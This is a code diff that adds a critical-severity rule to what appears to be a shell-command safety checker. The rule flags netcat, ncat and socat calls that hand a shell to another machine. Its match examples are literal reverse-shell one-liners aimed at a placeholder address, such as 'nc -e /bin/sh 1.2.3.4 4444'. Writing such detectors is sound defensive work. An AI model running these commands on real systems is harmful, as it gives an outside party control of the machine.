@@ -19,5 +19,22 @@ export const network: Domain = {
       ),
     },
   },
-  rules: [],
+  rules: [
+    {
+      id: 'network/shell-away',
+      program: ['nc', 'ncat', 'netcat', 'socat'],
+      when: call =>
+        call.program === 'socat'
+          ? (call.operands.find(({ value }) => /^(exec|system|shell):/i.test(value)) ?? false)
+          : call.has('-e', '-c', '--exec', '--sh-exec'),
+      severity: 'critical',
+      reason: 'gives a shell of this machine to another one',
+      match: [
+        'nc -e /bin/sh 1.2.3.4 4444',
+        'ncat --exec /bin/bash 1.2.3.4 4444',
+        'socat TCP:1.2.3.4:4444 EXEC:/bin/sh',
+      ],
+      notMatch: ['nc -zv localhost 5432', 'nc -l 8080', 'socat TCP-LISTEN:80,fork TCP:localhost:8080'],
+    },
+  ],
 }
